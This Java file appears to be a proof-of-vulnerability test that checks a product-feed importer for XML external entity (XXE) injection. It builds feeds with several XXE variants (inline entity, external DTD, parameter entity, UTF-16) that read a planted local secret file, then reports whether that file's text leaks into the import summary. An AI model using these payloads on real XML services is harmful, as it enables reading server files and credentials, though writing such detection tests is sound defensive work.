import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.brightaisle.catalog.FeedImporter;
import org.brightaisle.catalog.FeedImporter.FeedException;

/** Uploads a feed that names a file of the server and looks for its text in the report. */
public final class Pov {

  private static final String SECRET = "db.password=walnut-7731";

  public static void main(String[] args) {
    Protocol.guard(
        () -> {
          Path folder = Protocol.folder();
          Path secret = Files.writeString(folder.resolve("server.properties"), SECRET);
          Path dtd = folder.resolve("feed.dtd");
          String entity = "<!ENTITY e SYSTEM \"" + secret.toUri() + "\">";
          Files.writeString(dtd, entity);
          String summary =
              switch (args[0]) {
                case "control" -> {
                  Protocol.control(
                      upload("", "lamp", StandardCharsets.UTF_8).startsWith("1 taken"));
                  yield "";
                }
                case "selftest" -> upload("", SECRET, StandardCharsets.UTF_8);
                case "utf-16" -> upload("[" + entity + "]", "&e;", StandardCharsets.UTF_16);
                case "external-dtd" ->
                    upload("SYSTEM \"" + dtd.toUri() + "\"", "&e;", StandardCharsets.UTF_8);
                case "parameter-entity" ->
                    upload(
                        "[<!ENTITY % p SYSTEM \"" + dtd.toUri() + "\"> %p;]",
                        "&e;",
                        StandardCharsets.UTF_8);
                default -> upload("[" + entity + "]", "&e;", StandardCharsets.UTF_8);
              };
          if (summary.contains(SECRET)) {
            Protocol.vulnerable("the import report shows a file of the server");
          }
          Protocol.notVulnerable("the text of a server file in the import report");
        });
  }

  private static String upload(String doctype, String name, Charset charset) {
    String feed =
        (charset == StandardCharsets.UTF_8 ? "" : "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n")
            + (doctype.isEmpty() ? "" : "<!DOCTYPE feed " + doctype + ">\n")
            + "<feed><product sku=\"A1\"><name>"
            + name
            + "</name><price>9.90</price></product></feed>";
    try {
      return new FeedImporter().read(feed.getBytes(charset)).summary();
    } catch (FeedException refused) {
      return "refused";
    }
  }
}
